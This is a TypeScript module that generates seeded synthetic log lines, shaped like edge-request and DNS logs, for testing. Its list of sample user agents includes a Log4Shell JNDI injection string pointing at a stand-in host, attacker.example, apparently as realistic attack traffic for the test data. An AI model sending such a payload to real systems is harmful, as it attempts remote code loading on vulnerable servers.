import type { Dataset } from "./datasets";
import type { Line } from "./evaluate";
import { type Fields, type FieldType, valuesOf } from "./fields";

/** Options of generated log lines. The same count, seed and clock generate the same lines. */
export interface Generated {
  readonly count: number;
  /** @default 1 */
  readonly seed?: number | undefined;
}

type Pick = <T>(from: readonly T[]) => T;

interface Made {
  readonly pick: Pick;
  readonly random: () => number;
  /** When the line was logged. */
  readonly moment: number;
}

const hosts = ["www.shop.example", "api.shop.example", "static.shop.example", "example.com"];
const paths = [
  "/",
  "/cart",
  "/checkout",
  "/api/orders",
  "/api/login",
  "/static/app.js",
  "/static/logo.png",
  "/admin",
];
const agents = [
  "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X)",
  "curl/8.9.1",
  "${jndi:ldap://attacker.example/a}",
];

/** Functions that generate realistic values, by field. */
const special: Readonly<Record<string, (made: Made) => unknown>> = {
  ClientASN: ({ pick }) => pick([64496, 64497, 64511]),
  ClientCountry: ({ pick }) => pick(["de", "us", "fr", "ca", "jp"]),
  ClientRequestHost: ({ pick }) => pick(hosts),
  ClientRequestPath: ({ pick }) => pick(paths),
  ClientRequestProtocol: ({ pick }) => pick(["HTTP/2", "HTTP/3", "HTTP/1.1"]),
  ClientRequestUserAgent: ({ pick }) => pick(agents),
  BotScore: ({ random }) => 1 + Math.floor(random() * 99),
  EdgeColoCode: ({ pick }) => pick(["FRA", "IAD", "CDG", "NRT"]),
  EdgeResponseStatus: ({ pick }) => pick([200, 200, 200, 301, 304, 403, 404, 500, 503]),
  OriginResponseStatus: ({ pick }) => pick([200, 200, 0, 404, 500]),
  EventTimestampMs: ({ moment }) => moment,
  QueryName: ({ pick }) => pick(hosts),
  QueryType: ({ pick }) => pick([1, 28, 5, 16]),
  ResponseCode: ({ pick }) => pick([0, 0, 0, 3]),
  ZoneName: () => "shop.example",
};

export function linesOf(dataset: Dataset, fields: Fields, { count, seed = 1 }: Generated, now: Date): Line[] {
  const random = randomNumbers(seed);
  const pick: Pick = (from) => {
    const chosen = from[Math.floor(random() * from.length)];
    if (chosen === undefined) throw new Error("nothing to pick from");
    return chosen;
  };
  return Array.from({ length: count }, (_, index) => {
    const made = { pick, random, moment: now.getTime() - (count - index) * 250 };
    return coherent(
      Object.fromEntries([...fields].map(([name, type]) => [name, valueOf(dataset, name, type, made)])),
    );
  });
}

function valueOf(dataset: Dataset, name: string, type: FieldType, made: Made): unknown {
  const { pick, random } = made;
  const own = special[name];
  if (own !== undefined) return own(made);
  const values = valuesOf(dataset, name);
  if (values !== undefined && type === "string") return pick(values);
  switch (type) {
    case "string":
      return text(name, made);
    case "int":
      return Math.floor(random() * 1000);
    case "float":
      return Math.round(random() * 1000) / 100;
    case "bool":
      return random() < 0.5;
    case "int or string":
      return new Date(made.moment + Math.floor(random() * 200)).toISOString();
    case "object":
      return {};
    case "array[string]":
      return random() < 0.7 ? [] : [pick(["alpha", "beta", "gamma"])];
    case "array[int]":
      return random() < 0.7 ? [] : [Math.floor(random() * 100)];
    case "array[object]":
      return [];
  }
}

function text(name: string, { random, pick }: Made): string {
  const hex = (digits: number) =>
    Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16)).join("");
  if (/IP$|IPAddress$/.test(name))
    return `${pick(["192.0.2", "198.51.100", "203.0.113"])}.${Math.floor(random() * 256)}`;
  if (/ID$|Hash$|^JA4$|UUID$|UID$|Sitekey$/.test(name)) return hex(16);
  if (/Email$/.test(name)) return `${pick(["ada", "grace", "linus"])}@shop.example`;
  if (/Host(name)?$|Domain$|SNI$/.test(name)) return pick(hosts);
  if (/URL$/.test(name)) return `https://${pick(hosts)}${pick(paths)}`;
  if (/Country(Code)?$/.test(name)) return pick(["de", "us", "fr", "ca", "jp"]);
  if (/ColoCode$/.test(name)) return pick(["FRA", "IAD", "CDG", "NRT"]);
  if (/UserAgent$/.test(name)) return pick(agents);
  if (/Action$/.test(name)) return pick(["allow", "block", "log", "managedchallenge"]);
  return "";
}

/** Returns the fields of a request whose values depend on each other. */
function coherent(line: Record<string, unknown>): Line {
  if (!("ClientRequestURI" in line)) return line;
  const host = String(line["ClientRequestHost"]);
  const start = Date.parse(String(line["EdgeStartTimestamp"]));
  return {
    ...line,
    ClientRequestURI: `${String(line["ClientRequestPath"])}?page=${String(line["ClientSrcPort"])}`,
    ClientRequestReferer: `https://${host}/`,
    EdgeRequestHost: host,
    EdgeEndTimestamp: new Date(start + Number(line["EdgeTimeToFirstByteMs"])).toISOString(),
  };
}

/**
 * Returns a generator of pseudorandom numbers from 0 to 1. The same seed produces the same numbers on every machine
 * (mulberry32).
 */
export function randomNumbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
